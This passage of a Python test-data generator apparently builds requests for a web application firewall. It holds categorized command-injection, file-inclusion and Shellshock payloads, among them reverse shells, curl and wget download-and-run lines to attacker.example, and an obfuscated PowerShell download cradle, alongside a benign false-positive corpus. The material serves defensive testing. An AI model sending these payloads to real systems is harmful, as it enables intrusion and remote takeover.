    "&w^h^o^a^m^i",  # cmd.exe caret escapes
    "|n^e^t u^s^e^r",  # cmd.exe
    "&c^m^d /c ver",  # cmd.exe
    '&"whoami"',  # cmd.exe quoted command name
    '&w"h"oami',  # cmd.exe quotes inside the name
    "&set x=who&&call %x%ami",  # cmd.exe variable built command
    "&%COMSPEC% /c ver",  # cmd.exe via its own path variable
    "&cmd /v:on /c \"set a=calc&&!a!\"",  # cmd.exe delayed expansion
    "&CMD /C ,;ver",  # cmd.exe , and ; as blanks
    "&cmd/c ver",  # cmd.exe no blank before /c
    "&p^o^w^e^r^s^h^e^l^l -c whoami",  # cmd.exe carets in powershell
    "&powershell -c \"i`e`x (n`ew-o`bject net.webclient).downloadstring('http://attacker.example/a')\"",  # PS
]

# 4.x Unix Shell Code Found in REQUEST_HEADERS (User-Agent, Referer, ...) fed to a logging shell or CGI
UNIX_SHELL_CODE_HEADERS = [
    "/bin/sh -c 'curl http://attacker.example/x|sh'",  # sh via a CGI that passes HTTP_USER_AGENT to sh
    "/usr/bin/wget -qO- http://attacker.example/a|/bin/bash",  # bash
    "Mozilla/5.0 $(/bin/bash -c id)",  # bash command substitution in a logged header
    "/bin/zsh -c id",  # zsh
    "/usr/bin/nc -e /bin/sh 203.0.113.5 4444",  # traditional netcat
    "/bin/busybox telnetd -l /bin/sh -p 4444",  # busybox
    "/dev/tcp/203.0.113.5/4444",  # bash redirection target
    "/usr/bin/python -c 'import socket'",  # python reverse-shell start
    "/bin/chmod +x /tmp/a",  # coreutils
    "/usr/bin/curl -o /tmp/a http://attacker.example/a",  # curl dropper
    "/bin/kill -9 1",  # coreutils
    "/usr/bin/perl -e 'exec \"/bin/sh\"'",  # perl
]

# 4.x Direct Unix Command Execution (absolute paths, wildcards)
DIRECT_UNIX_ABSOLUTE = [
    "/usr/bin/id",  # sh -c "$value"
    "/bin/uname -a",  # sh
    "/usr/bin/getent passwd",  # glibc
    "/???/?s",  # sh glob: /bin/ls
    "/usr/sbin/ip a",  # iproute2
    "/bin/c?t /etc/hosts",  # sh glob
    "/b*/ec*o hi",  # sh glob: /bin/echo
    "/usr/b??/w?o",  # sh glob: /usr/bin/who
    "/sbin/ifconfig",  # net-tools
    "/usr/bin/env id",  # env launcher
    "/usr/local/bin/php -r 'system(\"id\");'",  # official PHP docker image path
    "/bin/ps aux",  # procps
]

# (category, sub-family, payloads, shape); shape picks the placements its title binds it to.
TITLES: list[tuple[str, str, list[str], str]] = [
    ("lfi", "path-traversal-encoded", PATH_TRAVERSAL_ENCODED, "raw"),
    ("lfi", "path-traversal-dotdot", PATH_TRAVERSAL_DOTDOT, "any"),
    ("lfi", "os-file-access", OS_FILE_ACCESS, "any"),
    ("lfi", "restricted-file-access", RESTRICTED_FILE_ACCESS, "any"),
    ("lfi", "os-file-access-in-headers", OS_FILE_ACCESS_HEADERS, "headers"),
    ("lfi", "path-traversal-triple-dot", PATH_TRAVERSAL_TRIPLE_DOT, "any"),
    ("rfi", "rfi-url-ip-address", RFI_URL_IP, "any"),
    ("rfi", "rfi-common-param-name", RFI_PARAM_NAME, "pair"),
    ("rfi", "rfi-trailing-question-mark", RFI_TRAILING_QMARK, "any"),
    ("rfi", "rfi-off-domain-link", RFI_OFF_DOMAIN, "any"),
    ("rce", "unix-command-injection", UNIX_CMD_INJECTION, "any"),
    ("rce", "unix-command-injection-more-commands", UNIX_CMD_INJECTION_MORE, "any"),
    ("rce", "windows-command-injection", WIN_CMD_INJECTION, "any"),
    ("rce", "windows-command-injection-more-commands", WIN_CMD_INJECTION_MORE, "any"),
    ("rce", "windows-powershell-command", POWERSHELL, "any"),
    ("rce", "unix-shell-expression", UNIX_SHELL_EXPRESSION, "any"),
    ("rce", "windows-for-if-command", WIN_FOR_IF, "any"),
    ("rce", "direct-unix-command-execution", DIRECT_UNIX_CMD, "any"),
    ("rce", "unix-shell-code", UNIX_SHELL_CODE, "any"),
    ("rce", "shellshock", SHELLSHOCK_HEADERS, "shellshock"),
    ("rce", "shellshock-args", SHELLSHOCK_ARGS, "args"),
    ("rce", "restricted-file-upload", RESTRICTED_UPLOAD, "upload"),
    ("rce", "rce-bypass-technique", RCE_BYPASS, "any"),
    ("rce", "unix-command-injection-no-evasion", UNIX_CMD_NO_EVASION, "any"),
    ("rce", "unix-command-injection-evasion", UNIX_CMD_EVASION, "any"),
    ("rce", "unix-shell-alias-invocation", UNIX_ALIAS, "any"),
    ("rce", "unix-shell-history-invocation", UNIX_HISTORY, "any"),
    ("rce", "unix-command-pipes-short-commands", UNIX_PIPES_SHORT, "any"),
    ("rce", "sqlite-system-command", SQLITE_SYSTEM, "any"),
    ("rce", "smtp-command", SMTP, "args"),
    ("rce", "imap-command", IMAP, "args"),
    ("rce", "pop3-command", POP3, "args"),
    ("rce", "windows-command-injection-evasion", WIN_CMD_EVASION, "any"),
    ("rce", "unix-shell-code-in-headers", UNIX_SHELL_CODE_HEADERS, "headers"),
    ("rce", "direct-unix-command-absolute-path", DIRECT_UNIX_ABSOLUTE, "any"),
]

OURS_ANY = ["query", "form", "json", "cookie", "header:User-Agent", "header:Referer", "header:X-Client-Note",
            "param-name", "xml", "multipart-field", "multipart-filename", "path"]
RS_ANY = ["rs-query", "rs-form", "rs-json", "rs-xml", "rs-raw-body", "rs-header:User-Agent", "rs-header:Referer",
          "rs-header:X-Test-Input", "rs-cookie"]
SHAPES: dict[str, tuple[list[str], list[str]]] = {
    "any": (OURS_ANY, RS_ANY),
    "raw": (["query", "form", "json", "cookie", "header:Referer", "path", "xml", "header:X-Client-Note"],
            ["rs-query", "rs-form", "rs-json", "rs-raw-body", "rs-header:Referer", "rs-cookie"]),
    "headers": (["header:User-Agent", "header:Referer", "header:X-Client-Note", "cookie", "header:Accept-Language"],
                ["rs-header:User-Agent", "rs-header:Referer", "rs-header:X-Test-Input", "rs-cookie"]),
    "shellshock": (["header:User-Agent", "header:Referer", "cookie", "header:X-Client-Note"],
                   ["rs-header:User-Agent", "rs-header:Referer", "rs-header:X-Test-Input", "rs-cookie",
                    "rs-request-line"]),
    "args": (["query", "form", "json", "param-name", "multipart-field", "xml"],
             ["rs-query", "rs-form", "rs-json", "rs-xml", "rs-raw-body"]),
    "pair": (["query", "form"], ["rs-query", "rs-form", "rs-raw-body"]),
    "upload": (["multipart-filename", "header:X-File-Name"], ["rs-multipart-filename", "rs-header:X-Filename"]),
}
HEADER_LIKE = ("header:", "cookie", "rs-header:", "rs-cookie", "multipart-filename", "rs-multipart-filename",
               "rs-request-line")

PARAMS = {"lfi": ["file", "path", "page", "template", "lang", "doc"],
          "rfi": ["page", "include", "url", "template", "file", "src"],
          "rce": ["q", "host", "name", "cmd", "ip", "filter"]}
RS_PATHS_GET = ["/", "/index.php", "/get", "/search", "/api/v1/items", "/cgi-bin/test.cgi"]
RS_PATHS_POST = ["/post", "/index.php", "/", "/api/v1/items", "/cgi-bin/test.cgi", "/search"]
RS_PARAMS = ["foo", "var", "x", "test", "id", "arg1"]
BOUNDARY = "----blind125Boundary7MA4YWxkTrZu0gW"


def _has_ctl(text: str) -> bool:
    return any(ord(c) < 32 or ord(c) == 127 for c in text)


def _headers(extra: dict[str, str] | None = None, ua: str = UA) -> dict[str, str]:
    return {"User-Agent": ua, "Accept": "*/*", **(extra or {})}


def _multipart(fields: list[tuple[str, str]], file: tuple[str, str] | None = None) -> str:
    parts = [f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="{k}"\r\n\r\n{v}\r\n' for k, v in fields]
    if file is not None:
        field, filename = file
        parts.append(f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="{field}"; '
                     f'filename="{filename.replace(chr(34), "%22")}"\r\nContent-Type: application/octet-stream'
                     f'\r\n\r\nhello\r\n')
    return "".join(parts) + f"--{BOUNDARY}--\r\n"


def _xml(tag: str, value: str) -> str:
    return f'<?xml version="1.0" encoding="UTF-8"?>\n<request><{tag}>{escape(value)}</{tag}></request>'


def _post(uri: str, body: str, ctype: str) -> dict[str, Any]:
    return {"method": "POST", "uri": uri, "body": body, "headers": _headers({"Content-Type": ctype})}


def _cookie_value(name: str, p: str, raw: bool, shape: str) -> str:
    """A cookie pair; for the header-bound titles the value as typed (Shellshock: the whole Cookie header, as
    bash CGI sees HTTP_COOKIE)."""
    if shape == "shellshock":
        return p
    if shape == "headers" or raw:
        return f"{name}={p}"
    return f"{name}={urllib.parse.quote(p, safe='')}"


def ours(place: str, name: str, p: str, raw: bool, shape: str = "any") -> dict[str, Any]:
    """The payload in one of our routes' input places."""
    q = p if raw else urllib.parse.quote(p, safe="")
    if place == "query":
        return _get(f"/api/users?{q}&page=1" if raw and "=" in p else f"/api/users?{name}={q}&page=1")
    if place == "form":
        body = f"csrf_token=t0k3n&{p}" if raw and "=" in p else \
            "csrf_token=t0k3n&" + name + "=" + (p if raw else urllib.parse.quote_plus(p))
        return _post("/admin/users/search", body, "application/x-www-form-urlencoded")
    if place == "json":
        return _json("/api/users", {"email": "a@example.org", name: p})
    if place == "cookie":
        cookie = _cookie_value(name, p, raw, shape)
        cookie = cookie if shape == "shellshock" else "session=abc123; " + cookie
        return {**_get("/api/users?page=1"), "headers": _headers({"Cookie": cookie})}
    if place.startswith("header:"):
        header = place.split(":", 1)[1]
        if header == "User-Agent":
            return {**_get("/api/users?page=1"), "headers": _headers(ua=p)}
        return {**_get("/api/users?page=1"), "headers": _headers({header: p})}
    if place == "param-name":
        return _get(f"/api/users?{urllib.parse.quote(p, safe='')}=1&page=1")
    if place == "xml":
        return _post("/api/users", _xml(name, p), "application/xml")
    if place == "multipart-field":
        return _post("/admin/users/search", _multipart([("csrf_token", "t0k3n"), (name, p)]),
                     f"multipart/form-data; boundary={BOUNDARY}")
    if place == "multipart-filename":
        return _post("/admin/users/search", _multipart([("csrf_token", "t0k3n")], ("attachment", p)),
                     f"multipart/form-data; boundary={BOUNDARY}")
    if place == "path":
        return _get(f"/api/users/{q}")
    raise ValueError(place)


def regression_suite(place: str, i: int, p: str, raw: bool, shape: str = "any") -> dict[str, Any]:
    """The payload the way a WAF regression suite sends it: paths that are not our routes, arbitrary names."""
    name = RS_PARAMS[i % len(RS_PARAMS)]
    get_path, post_path = RS_PATHS_GET[i % len(RS_PATHS_GET)], RS_PATHS_POST[i % len(RS_PATHS_POST)]
    q = p if raw else urllib.parse.quote(p, safe="")
    if place == "rs-query":
        return _get(f"{get_path}?{p}" if raw and "=" in p else f"{get_path}?{name}={q}")
    if place == "rs-request-line":
        return _get(f"/cgi-bin/test.cgi?{q}")
    if place == "rs-form":
        body = p if raw and "=" in p else name + "=" + (p if raw else urllib.parse.quote_plus(p))
        return _post(post_path, body, "application/x-www-form-urlencoded")
    if place == "rs-json":
        return _post(post_path, json.dumps({name: p}), "application/json")
    if place == "rs-xml":
        return _post(post_path, _xml(name, p), "text/xml")
    if place == "rs-raw-body":
        return _post(post_path, p, "application/x-www-form-urlencoded")
    if place == "rs-cookie":
        return {**_get(get_path), "headers": _headers({"Cookie": _cookie_value(name, p, raw, shape)})}
    if place == "rs-multipart-filename":
        return _post(post_path, _multipart([(name, "1")], ("upload", p)), f"multipart/form-data; boundary={BOUNDARY}")
    if place.startswith("rs-header:"):
        header = place.split(":", 1)[1]
        if header == "User-Agent":
            return {**_get(get_path), "headers": _headers(ua=p)}
        return {**_get(get_path), "headers": _headers({header: p})}
    raise ValueError(place)


def _pick(places: list[str], start: int, payload: str) -> str:
    """The first place from `start` on (rotating) that can carry the payload (no CR/LF in headers)."""
    for k in range(len(places)):
        place = places[(start + k) % len(places)]
        if not (_has_ctl(payload) and place.startswith(HEADER_LIKE)):
            return place
    raise ValueError(payload)


def attacks() -> Iterator[dict[str, Any]]:
    n = 0
    for t, (category, sub, payloads, shape) in enumerate(TITLES):
        ours_places, rs_places = SHAPES[shape]
        raw = shape in ("raw", "pair")
        names = PARAMS[category]
        for i, p in enumerate(payloads):
            if raw:
                assert not any(c in p for c in " \"<>") and not _has_ctl(p), p
            place = _pick(ours_places, i + t, p)
            rs_place = _pick(rs_places, i + 2 * t, p)
            for placement, rec in ((place, ours(place, names[(i + t) % len(names)], p, raw, shape)),
                                   (rs_place, regression_suite(rs_place, i + t, p, raw, shape))):
                n += 1
                yield {**rec, "id": f"{NAME}-{category}-{n:04d}", "category": category, "sub": sub,
                       "placement": placement, "payload": p}


# --------------------------------------------------------------------------------------------------------------
# Benign: the same words, as people type them
# --------------------------------------------------------------------------------------------------------------

SLACK_TEXTS = [
    "can someone cat the nginx error log on staging? I don't have access",
    "ls -la shows the uploads dir is owned by root, that's why the job fails",
    "the /etc/hosts entry for db-replica is stale, I'll fix it after lunch",
    "reminder: never commit the .env file, it's in .gitignore for a reason",
    "our .htaccess rules are gone since we moved to nginx, the redirects live in the server block now",
    "IIS still reads web.config for the legacy intranet app, don't delete it",
    "PHP-FPM picks up .user.ini per directory, that's how the upload limit got set",
    "the docs link uses ../images/diagram.png, relative paths break on the preview site",
    "run `git log --oneline | head` and paste the output here",
    "powershell Get-Process | Sort-Object CPU is my go-to when the VM is slow",
    "in cmd, for /f loops are painful; just use PowerShell's ForEach-Object",
    "if exist checks in the old batch installer are why it skips the config step",
    "alias ll='ls -la' is in everyone's dotfiles, add it to the onboarding doc",
    "bash history is per-session unless you set histappend, TIL",
    "the SMTP relay rejected HELO from the new box, need to add it to the allow list",
    "IMAP sync is slow because the client does a full FETCH on every folder",
    "POP3 is still enabled on the old mail server, we should turn it off",
    "sqlite3 .tables lists the tables, .schema shows the DDL",
    "the cron job runs /usr/local/bin/backup.sh at 02:00",
    "chmod +x the script before you run it, the pipeline forgot",
    "ping 10.0.0.5 works from the bastion, not from my laptop",
    "traceroute shows the hop at the ISP dropping packets",
    "I use `tail -f` on the access log while testing the form",
    "whoami on the build agent says jenkins, so the perms are right",
    "the Windows runner needs `dir /s` replaced with Get-ChildItem -Recurse",
    "net use drive mapping broke after the password rotation on the file share",
    "the ftp mirror of the ISO is faster than the https one for me",
    "shellshock was 2014, all our images have patched bash for ages",
    "the /proc/meminfo numbers on the container are the host's, not the cgroup's",
    "for the demo we'll run everything from the cmd prompt",
    "Hi all, lunch at 12:30? the cat cafe downstairs reopened",
    "I'll type up the notes and share them in the channel",
    "who's on call this weekend? I have a wedding saturday",
    "The history of the project is in the wiki under About",
    "please don't alias prod to staging in your kube config, that bit me",
    "python3 -m http.server 8000 is enough for testing the static build",
    "the nc tool is not installed in the slim image, use curl instead",
    "the sort order on the users table is by last name",
    "the old admin URL was /admin/../admin/login, somebody fixed the redirect",
    "ok the file is in Documents/Reports/2024/q3-final.xlsx",
    "the API returns 403 when the token expired, not 401, bug filed",
    "our Dockerfile ends with CMD [\"gunicorn\", \"app:app\"]",
    "the `env` command shows the PATH is missing /usr/local/bin",
    "uname -r says 6.1 on the new nodes",
    "we deprecated the /api/v1 endpoints, use /api/v2",
    "the printer queue on floor 3 is stuck again",
    "is the VPN down or is it just me?",
    "I updated the DNS TTL to 300 so the cutover is quick",
    "git checkout -- . will throw away your local changes, careful",
    "the .git folder was accidentally deployed once, that's why we added the check",
    "the WEB-INF folder should never be served, our Tomcat config is fine",
    "use `find . -name '*.log' -mtime +7 -delete` for the cleanup",
    "curl -I https://example.com shows the HSTS header",
    "wget --mirror is how we archived the old site",
    "the mail queue had 3k messages stuck, postfix flushed them",
    "RCPT TO errors in the logs are from the typo'd domain",
    "Outlook keeps asking for the IMAP password after the update",
    "the sqlite database for the CLI tool lives in ~/.config/tool/db.sqlite",
    "the deploy script calls `systemctl restart app` at the end",
    "can we get the ssh keys for the new contractor set up?",
    "I'll share the slides about path traversal bugs at the security guild",
    "dig +short example.com returns the new IP, propagation done",
    "nslookup on Windows gives the same answer",
    "ipconfig /flushdns fixed my issue",
    "the wmic deprecation means our inventory script needs a rewrite",
    "tasklist shows two copies of the agent running",
    "the systeminfo output says the VM has 8 GB",
    "please run the perl script with -w for warnings",
    "ruby 3.3 upgrade is done on the worker fleet",
    "the lua config for the gateway is reviewed by two people",
    "awk '{print $1}' access.log | sort | uniq -c is the quick top-IPs view",
    "the sed one-liner in the README is wrong, missing the -i",
    "tar -czf backup.tgz data/ before the migration please",
    "the socat tunnel to the db is only for debugging",
    "my zsh prompt shows the git branch, very handy",
    "the ksh scripts on the AIX box are from 2009",
    "the busybox image is 1 MB, nice for the init container",
    "it's https://wiki.example.com/ops/runbooks/disk-full.html",
    "ftp://ftp.example.org/pub/ is read-only, uploads go via sftp",
    "the meeting link is https://meet.example.com/abc-defg-hij?pwd=no",
    "the photo upload takes .jpg and .png, not .heic yet",
    "crontab -l shows nothing for the app user, the job is in systemd timers",
    "sudo -l lists what you can run on the jump host",
    "the dashboard reads /var/log/app/*.log via promtail",
    "what's for dinner? pizza or tacos?",
    "happy friday! go home early",
    "I'll be OOO next week, Ana covers the releases",
    "the bill for the conference room was $120, can finance approve?",
    "our CEO mentioned the net revenue was up 12%",
    "the type of the field is string, not int",
    "if the test is flaky, rerun it once, then file a ticket",
    "for each user we store the last login",
    "we set the alias for the support mailbox to help@",
    "the history page shows all edits with timestamps",
    "(){ } in JS is an arrow function body, not a bash thing :)",
    "$(document).ready is from the jQuery days",
    "the template string `${name}` fails in IE, we don't support IE anyway",
    "the regex /\\.\\.\\// catches the dot-dot-slash case in our validator",
    "the Go code uses filepath.Clean before opening uploads",
    "node's path.normalize handles .. segments",
    "the SFTP chroot keeps people inside their home dir",
    "the cat command concatenates files, the name isn't about pets",
    "tac is cat backwards, it prints lines in reverse",
    "the nl command numbers lines, handy for code reviews",
    "od -c is what I use to spot weird bytes in CSVs",
    "rev reverses each line, fun for puzzles",
    "the df numbers on the volume look wrong, ticket opened",
    "du -sh * in the home dir shows node_modules at 4 GB lol",
    "the ps output shows the zombie processes from the old worker",
    "w shows three people logged into the bastion",
    "the dd image of the old disk is on the NAS",
    "pr was used for printing in the 80s, now nobody knows it",
    "the .bashrc on the shared box sets a weird PS1",
    "the .profile there sources the company env",
    "authorized_keys is managed by ansible, don't edit by hand",
    "php.ini on the server has the memory_limit at 512M",
    "the .htpasswd protection on staging is enough for now",
    "the web config panel lets admins change the logo",
    "EHLO vs HELO: EHLO is the extended version, everyone uses that",
    "VRFY is disabled on our mail server, as it should be",
    "the RSET command resets an SMTP transaction, from the RFC reading group",
    "the AUTH LOGIN step fails with the new app password",
    "SELECT INBOX is the first thing the IMAP client does",
    "RETR and DELE are POP3 commands, we read RFC 1939 in the guild",
    "the .system command in sqlite3 shell is handy for local scripts",
    "the .import in sqlite3 loads CSVs fast",
    ".output file.csv then the query, that's how I export",
    "in PowerShell, Invoke-WebRequest has the alias iwr",
    "Start-Process with -Verb RunAs asks for elevation",
    "Get-Content -Tail 50 is PowerShell's tail",
    "Set-ExecutionPolicy RemoteSigned is the usual dev setting",
    "Get-ChildItem -Recurse -Filter *.log to find logs",
    "the certutil hash command verifies the download: certutil -hashfile x.iso SHA256",
    "bitsadmin is deprecated, the docs point to BITS PowerShell cmdlets",
    "the regsvr32 step is in the old COM install guide",
    "mshta is blocked by our AppLocker policy, good",
    "schtasks /query shows the backup task on the file server",
    "our history teacher called it the IF era of computing lol",
    "the FOR loop in our Fortran lab was 1-indexed",
    "the netstat output shows the port bound twice",
    "lsof -i :8080 tells you who holds the port",
    "ss -tlnp is the modern netstat",
    "the ifconfig output is deprecated on new distros",
    "last -n 5 shows who rebooted the box",
    "finger is not installed anywhere anymore",
    "uptime says 400 days, please patch that server",
    "mount shows the NFS share mounted read-only",
    "lsb_release -a says Ubuntu 22.04",
    "strings on the binary shows the version",
    "base64 -d the secret in k8s to read it (locally!)",
    "the getent hosts call is how the app resolves names",
    "the hostname -I output lists both NICs",
]

PUBLIC_URLS = [
    "https://www.gnu.org/software/bash/manual/bash.html",
    "https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.management/get-process",
    "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/for",
    "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/if",
    "https://www.sqlite.org/cli.html",
    "https://datatracker.ietf.org/doc/html/rfc5321",
    "https://datatracker.ietf.org/doc/html/rfc9051",
    "https://datatracker.ietf.org/doc/html/rfc1939",
    "https://owasp.org/www-community/attacks/Path_Traversal",
    "https://en.wikipedia.org/wiki/Shellshock_(software_bug)",
    "https://httpd.apache.org/docs/2.4/howto/htaccess.html",
    "https://www.php.net/manual/en/configuration.file.per-user.php",
    "https://man7.org/linux/man-pages/man1/cat.1.html",
    "https://man7.org/linux/man-pages/man5/proc.5.html",
    "https://github.com/acme/tools/blob/main/scripts/deploy.sh",
    "https://github.com/acme/site/tree/main/docs/../README.md",
    "https://docs.example.com/guide/install?os=windows&shell=powershell",
    "https://cdn.example.org/assets/app.js?v=2024.10.1",
    "https://www.example.com/search?q=cat+food",
    "https://ftp.gnu.org/gnu/bash/",
    "ftp://ftp.example.org/pub/releases/tool-1.2.tar.gz",
    "https://example.com/files/report.pdf?download=1",
    "https://maps.example.com/?q=52.52,13.405",
    "https://shop.example.co.uk/products/cat-tree?colour=grey",
    "https://blog.example.com/2024/03/01/why-we-left-bash-for-python/",
    "https://stackoverflow.com/questions/4651437/how-do-i-set-a-variable-to-the-output-of-a-command-in-bash",
    "https://unix.stackexchange.com/questions/tagged/alias",
    "https://superuser.com/questions/tagged/cmd.exe",
    "https://www.postgresql.org/docs/current/app-psql.html",
    "https://nginx.org/en/docs/http/ngx_http_core_module.html#location",
    "https://tomcat.apache.org/tomcat-10.1-doc/config/context.html",
    "https://kubernetes.io/docs/tasks/run-application/access-api-from-pod/",
    "https://hooks.slack.com/services/T0000/B0000/XXXXXXXXXXXX",
    "https://example.com/avatar.png?",
    "https://images.example.net/u/42/photo.jpg?size=200",
    "https://news.example.org/world/2024/10/12/elections?ref=home",
    "https://docs.python.org/3/library/subprocess.html",
    "https://docs.docker.com/reference/cli/docker/container/exec/",
    "https://www.iana.org/assignments/uri-schemes/uri-schemes.xhtml",
    "https://git-scm.com/docs/git-credential-store",
]

PROSE = [
    "Please cat-proof the server room: the office cat got in again.",
    "Type your question below and we'll answer within a day.",
    "For each invoice, if the total exceeds 1000 EUR, ask for a second approval.",
    "Net user count rose by 14% this quarter.",
    "Set the alias for the shared inbox to billing@example.com.",
    "The history of this account shows three address changes.",
    "Dir. of Operations: Maria Gonzalez",
    "Echo Park office, 2nd floor",
    "Ping the customer again if no reply by Friday.",
    "Find the user by email, then reset the MFA device.",
    "More information is in the attached PDF.",
    "Sort the list by last login, newest first.",
    "Head office moved to 14 Shell Road, Leeds.",
    "Tail risk is covered by the reinsurance treaty.",
    "The Bash Street Kids comic was my favourite.",
    "Who approved the refund of $49.99 (order 1182)?",
    "Date of birth: 12/04/1988; place of birth: Paris",
    "Uptime for the last month was 99.97%.",
    "Mount Everest trip photos are in the shared album.",
    "Finger food for the team event: ask catering.",
    "Groups: Sales, Support, Finance",
    "Last name: Kill; first name: Patrick (yes, really)",
    "Shell Oil invoice #88812 is overdue.",
    "The Perl necklace order shipped today.",
    "Ruby and Python are both welcome in the coding club.",
    "Lua the dog is the office mascot.",
    "Java coffee beans are back in stock.",
    "The user typed C:\\Users\\Public\\Documents as the path.",
    "Files live under /home/shared/projects, ask IT for access.",
    "Open the Reports folder, then go up one level (..) to find Archive.",
    "See section 3.2 ../ 4.1 for the full argument (typo in the source).",
    "Use the Windows key + R, type cmd, and press Enter.",
    "In PowerShell, run Get-Help to see the built-in docs.",
    "The form accepts .jpg, .png and .pdf files up to 10 MB.",
    "Mail server: smtp.example.com, port 587, STARTTLS.",
    "IMAP server: imap.example.com, port 993, SSL.",
    "POP3 is not supported; please use IMAP.",
    "The customer says the app shows 'access denied' on login.",
    "We stock 3 sizes: S, M, L; see the chart.",
    "Sales call notes: if budget approved, then pilot in Q2; else revisit.",
    "Total: 2 x 14.50 = 29.00 (excl. tax)",
    "Hours: Mon-Fri 9:00-17:30; Sat 10:00-14:00",
    "Address: 221B Baker Street, London NW1 6XE",
    "Please find attached the signed contract (v3).",
    "Contact: +44 20 7946 0958 or ops@example.com",
    "The config panel lets you set the time zone and the language.",
    "A history of printing: from Gutenberg to 3D printers.",
    "Use the search box; wildcards like report* work.",
    "The questionnaire asks 'why?' and 'what next?'.",
    "Her résumé lists SQL, Bash, and PowerShell.",
    "Env: production; region: eu-west-1",
    "Ticket: user can't find the Downloads folder.",
    "Export the table as CSV, then open it in Excel.",
    "The dd/mm/yyyy format is used in the UK.",
    "Route 66 road trip: Chicago -> Los Angeles.",
    "Who's who in the leadership team: see the org chart.",
    "My cat's name is Ls (short for Lasagna).",
    "Notes from the SQLite workshop: indexes, WAL, vacuum.",
    "The SMTP outage on Tuesday delayed 2,000 emails.",
    "Windows 11 upgrade for the sales laptops is scheduled.",
    "The bash (party) is on Friday at 6 pm.",
    "Hash browns and eggs for the team breakfast.",
    "Keep the receipt; the return window is 30 days.",
    "The IF statement in the spreadsheet is wrong in cell D4.",
    "For more, see the FAQ at the bottom of the page.",
    "Ping-pong table is in the break room.",
    "Kill switch for the promo banner is in the admin panel.",
    "Set the reminder for 9 am tomorrow.",
    "The mail merge uses {first_name} and {company}.",
    "Copy the file to \\\\fileserver\\share\\finance please.",
    "Q: why does my upload fail? A: the file is over 10 MB.",
    "The password reset link expires in 24 hours.",
    "Remote work policy: up to 3 days per week.",
    "Please update your shipping address before Monday.",
    "Price per seat: $12/month, billed yearly.",
    "The history of Rome in 10 minutes, a great video.",
    "Our alias for the project is Bluebird.",
    "Please type slowly when reading the serial number.",
    "A cat, a dog and a parrot walk into a bar...",
    "Set up the printer on floor 2 (HP LaserJet).",
    "The netbook from 2010 still boots, amazingly.",
    "ID card renewal: bring two photos.",
    "Sleep tracking data is exported weekly.",
    "Echo chamber effects are discussed in chapter 7.",
    "Time zone: UTC+01:00 (Berlin)",
    "The Head of Sales will join the call.",
    "Tac Bui joined the support team this week.",
    "Welcome to Cat Nguyen, our new designer!",
    "Dir Schmidt & Partner law firm, Berlin",
    "Wget Street is not a real street, please correct the address.",
]

SEARCHES = [
    "cat toys", "cat food grain free", "ls 430 engine", "dir en grey tickets", "bash festival 2024",
    "powershell course", "for loop python", "if statement excel", "shell company definition", "net user guide",
    "typewriter repair", "history of rome", "alias name meaning", "smtp server settings gmail", "imap outlook setup",
    "pop3 vs imap", "sqlite browser", "windows 11 cmd tips", "head and shoulders shampoo", "tail light replacement",
    "sort by date", "more than words lyrics", "find my phone", "who is on call", "date night ideas",
    "uptime monitoring", "mount fuji tours", "finger food recipes", "echo dot", "ping pong table",
    "kill bill soundtrack", "sleep better tips", "env variables docker", "path of exile", "../ meaning",
    "what is /etc/hosts", "htaccess redirect", "web.config rewrite rule", "user.ini php upload size", ".env example",
    "git head detached", "svn checkout", "ssh authorized_keys format", "proc meminfo explained", "boot.ini windows xp",
    "win.ini", "windows system32 drivers etc hosts", "php include path", "shellshock patch", "bash 5.2 release notes",
    "powershell get-process", "cmd for /f", "batch if exist", "bashrc vs profile", "zsh history size",
    "sqlite .import csv", "smtp helo", "imap select", "pop3 retr", "nginx location",
    "Catherine Dirk", "Tac Bui", "Wes Typer", "Ana Head", "Ron Mount",
    "Kim Tail", "Lee Sort", "Jo More", "Sam Find", "Bo Echo",
    "order 1182", "invoice 2024-10", "refund policy", "shipping to canada", "gift card balance",
    "reset mfa", "change email", "delete account", "export data", "api rate limit",
    "webhook retries", "oauth scopes", "slack integration", "csv export", "dark mode",
    "ftp upload", "http vs https", "ip address lookup", "203.0.113.0/24 documentation range", "localhost 3000",
    "python -m http.server", "nc -l port", "curl post json", "wget recursive", "chmod 755 meaning",
    "sudo without password", "crontab every 5 minutes", "netstat windows", "tasklist filter", "systeminfo uptime",
    "ipconfig release renew", "regedit backup", "certutil hash", "schtasks create daily", "wmic alternative",
    "who invented the typewriter", "what is a cgi script", "apache mod_cgi", "tomcat web-inf", "iis logs location",
    "alias email forwarding", "history channel schedule", "for sale by owner", "if you leave lyrics",
    "set theory basics",
]

PROFILES = [
    ("Catherine Dirk", "12 Pipe Street, Manchester M1 2AB"),
    ("Tac Bui", "4 Shell Road, Leeds LS1 4DY"),
    ("Wes Typer", "88 Echo Lane, Austin, TX 78701"),
    ("Ana Head", "Calle de la Cat 5, Madrid"),
    ("Ron Mount", "7 History Place, Boston, MA 02108"),
    ("Kim Tail", "31 Alias Avenue, Toronto ON M5V 2T6"),
    ("Lee Sort", "2/14 Sleep St, Melbourne VIC 3000"),
    ("Jo More", "Rue du Ping 9, 75011 Paris"),
    ("Sam Find", "Hauptstrasse 1, 10115 Berlin"),
    ("Bo Echo", "1-2-3 Shibuya, Tokyo 150-0002"),
    ("Patrick Kill", "55 Bash Street, Dundee DD1 1AA"),
    ("Dana Date", "10 Env Court, Dublin D02 XY45"),
    ("Nora Net", "3 User Way, Oslo 0150"),
    ("Ivan Perl", "ul. Lua 12, 00-001 Warszawa"),
    ("Ruby Fingers", "9 Mount Pleasant, Cardiff CF10 1AA"),
    ("Sid Uptime", "44 Pop Lane, Liverpool L1 8JQ"),
    ("Ella Imap", "Via Roma 10, 00184 Roma"),
    ("Sergio Smtp", "Av. Paulista 1000, Sao Paulo"),
    ("O'Neil Powers", "Flat 3, 12 Shell Close, Bristol BS1 5TR"),
    ("Zoe For-If", "1 For Street, Forfar DD8 1AA"),
    ("Hugo Dir", "Dirleton Road 4, North Berwick"),
    ("Cat Nguyen", "25 Tac Street, Hanoi"),
    ("Ls Rahman", "House 8, Road 27, Dhaka 1209"),
    ("Amy Tee", "C:\\ Drive Cafe, 8 Byte Street, Cambridge"),
    ("Ben Sh", "12 Bin Lane, Sheffield S1 2HE"),
    ("Eve Dev", "Null Island Expeditions, 0 Equator Rd"),
    ("Ida Proc", "17 Self Street, York YO1 7HH"),
